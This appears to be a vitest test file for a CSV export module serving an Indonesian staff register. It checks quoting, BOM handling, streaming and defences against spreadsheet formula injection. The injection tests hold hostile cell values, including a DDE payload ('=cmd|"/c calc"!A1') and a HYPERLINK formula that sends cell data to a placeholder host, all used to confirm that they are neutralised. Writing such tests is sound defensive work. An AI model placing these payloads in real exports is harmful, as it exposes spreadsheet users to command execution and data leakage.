import vm from 'node:vm';
import v8 from 'node:v8';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { type CsvColumn, csvLines, csvStream, FORMULA_START } from '../../functions/exports/csv';
import type { PageFetcher } from '../../functions/exports/pages';

// Keeps a BOM in the text, so tests can see it (Response.text() would drop it).
const decoder = new TextDecoder('utf-8', { ignoreBOM: true });

async function text(stream: ReadableStream<Uint8Array>): Promise<string> {
  const bytes = new Uint8Array(await new Response(stream).arrayBuffer());
  return decoder.decode(bytes);
}

/** The CSV as papaparse reads it back (BOM dropped, `\r\n` rows). */
function parse(csv: string): string[][] {
  const result = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',', newline: '\r\n', skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

interface Person {
  nip: string;
  name: string;
  unit: string;
  score: number;
}
const columns: CsvColumn<Person>[] = [
  { header: 'NIP', value: (p) => p.nip },
  { header: 'Nama', value: (p) => p.name },
  { header: 'Unit', value: (p) => p.unit },
  { header: 'Nilai', value: (p) => p.score },
];
const onePage =
  <Row>(rows: Row[]): PageFetcher<Row, number> =>
  async () => ({ rows, next: null });

describe('csvLines', () => {
  it('quotes per RFC 4180 only what needs it, doubling quotes, with \\r\\n line ends', () => {
    expect(csvLines([['a', 'b,c', 'say "hi"', 'two\nlines', 'x\r\ny', '', null, 7]])).toBe(
      'a,"b,c","say ""hi""","two\nlines","x\r\ny",,,7\r\n',
    );
    expect(csvLines([['1'], ['2']])).toBe('1\r\n2\r\n');
  });

  // Every hostile cell gets a leading ' so a spreadsheet shows it as text; what is not hostile is untouched.
  it.each([
    ['=1+1', "'=1+1"],
    ['  =1+1', "'  =1+1"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ['\n=cmd', "'\n=cmd"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['-2+3', "'-2+3"],
    ['+2+3', "'+2+3"],
    [' -1', "' -1"],
    ['+62 812-3456-7890', "'+62 812-3456-7890"],
    ['=HYPERLINK("http://x.example/?"&A1,"klik")', `'=HYPERLINK("http://x.example/?"&A1,"klik")`],
    ['\u00a0=1', "'\u00a0=1"],
    ['198503152010121001', '198503152010121001'],
    ['Siti Rahayu, S.Pd.', 'Siti Rahayu, S.Pd.'],
    ['Bagian Umum - Subbag TU', 'Bagian Umum - Subbag TU'],
    ['a=b', 'a=b'],
    ['NA-7K3M-Q9TZ-2HFA', 'NA-7K3M-Q9TZ-2HFA'],
  ])('cell %j is read back as %j', (cell, shown) => {
    const [[back]] = parse(csvLines([[cell]])) as [[string]];
    expect(back).toBe(shown);
    expect(FORMULA_START.test(back)).toBe(false);
  });

  it('leaves numbers passed as numbers alone (a score is not a formula)', () => {
    expect(csvLines([[-2, 0, 9]])).toBe('-2,0,9\r\n');
  });

  it('keeps 18-digit NIPs as the exact digits, unquoted', () => {
    expect(csvLines([['198503152010121001', '199001012019032001']])).toBe('198503152010121001,199001012019032001\r\n');
  });
});

describe('csvStream', () => {
  it('writes the BOM once, then the header, then the rows of every page', async () => {
    const pages: Person[][] = [
      [{ nip: '198503152010121001', name: 'Ni Luh Putu Āyu', unit: 'Bagian Umum', score: 9 }],
      [],
      [{ nip: '199001012019032001', name: '=cmd|"/c calc"!A1', unit: '  @SUM(1)', score: 10 }],
    ];
    const fetchPage: PageFetcher<Person, number> = async (cursor) => {
      const at = cursor ?? 0;
      return { rows: pages[at]!, next: at + 1 < pages.length ? at + 1 : null };
    };
    const csv = await text(csvStream({ columns, fetchPage }));
    expect(csv.startsWith('\uFEFFNIP,Nama,Unit,Nilai\r\n')).toBe(true);
    expect(csv.match(/\uFEFF/g)).toHaveLength(1);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parse(csv)).toEqual([
      ['NIP', 'Nama', 'Unit', 'Nilai'],
      ['198503152010121001', 'Ni Luh Putu Āyu', 'Bagian Umum', '9'],
      ['199001012019032001', `'=cmd|"/c calc"!A1`, "'  @SUM(1)", '10'],
    ]);
  });

  it('survives a round trip through papaparse: every cell back as written, hostile ones with their prefix', async () => {
    const hostile = ['=1+1', '  =1+1', '\t=cmd', '@SUM', '-2+3', '+62 812 3456 7890', 'a "quoted", name', 'line\r\nbreak'];
    const rows = hostile.map((cell, i) => ({ nip: `19850315201012100${i}`, name: cell, unit: `Unit ${i}`, score: i }));
    const back = parse(await text(csvStream({ columns, fetchPage: onePage(rows) }))).slice(1);
    expect(back.map((r) => r[0])).toEqual(rows.map((r) => r.nip));
    expect(back.map((r) => r[1])).toEqual(hostile.map((cell) => (FORMULA_START.test(cell) ? `'${cell}` : cell)));
  });

  it('starts with the UTF-8 BOM bytes', async () => {
    const bytes = new Uint8Array(await new Response(csvStream({ columns, fetchPage: onePage<Person>([]) })).arrayBuffer());
    expect([...bytes.slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 'N'.charCodeAt(0)]);
  });

  it('sends only the header for an empty export', async () => {
    expect(await text(csvStream({ columns, fetchPage: onePage<Person>([]) }))).toBe('\uFEFFNIP,Nama,Unit,Nilai\r\n');
  });

  it('stops reading the source when the reader cancels', async () => {
    let fetched = 0;
    const stream = csvStream({
      columns,
      fetchPage: async (cursor: number | null) => {
        fetched++;
        return { rows: [{ nip: '1', name: 'a', unit: 'u', score: 1 }], next: (cursor ?? 0) + 1 };
      },
    });
    const reader = stream.getReader();
    await reader.read();
    await reader.read();
    await reader.cancel();
    expect(fetched).toBe(1);
  });

  it('streams 100,000 rows with flat memory, the first rows out before the source is exhausted', async () => {
    v8.setFlagsFromString('--expose-gc');
    const gc = vm.runInNewContext('gc') as () => void;
    const PAGE = 1_000;
    const TOTAL = 100_000;
    let served = 0;
    // Rows made on demand, like a keyset query: nothing holds them once a page is written.
    const fetchPage: PageFetcher<Person, number> = async (cursor) => {
      const from = cursor ?? 0;
      served = from + PAGE;
      const rows = Array.from({ length: PAGE }, (_, i) => ({
        nip: String(198503152010000000 + from + i),
        name: `Pegawai ${from + i} Nur’aini`,
        unit: i % 7 === 0 ? '=SUM(A1)' : 'Bagian Umum dan Kepegawaian',
        score: 8 + (i % 3),
      }));
      return { rows, next: from + PAGE < TOTAL ? from + PAGE : null };
    };

    const reader = csvStream({ columns, fetchPage }).getReader();
    let rowsSeen = -1; // the header line
    let servedAtFirstRows = 0;
    let bytes = 0;
    const heap: number[] = [];
    let chunks = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks++;
      bytes += value.length;
      const lines = decoder.decode(value).split('\r\n').length - 1;
      if (rowsSeen <= 0 && rowsSeen + lines > 0) servedAtFirstRows = served;
      rowsSeen += lines;
      if (chunks === 10 || chunks === 90) {
        gc();
        heap.push(process.memoryUsage().heapUsed);
      }
    }
    expect(rowsSeen).toBe(TOTAL);
    expect(servedAtFirstRows).toBe(PAGE);
    expect(bytes).toBeGreaterThan(TOTAL * 50);
    // 80 pages (about 6 MB of CSV, more as row objects) went through between the two samples: what is
    // still held afterwards must not have grown with them.
    expect(heap[1]! - heap[0]!).toBeLessThan(1_000_000);
  });
});
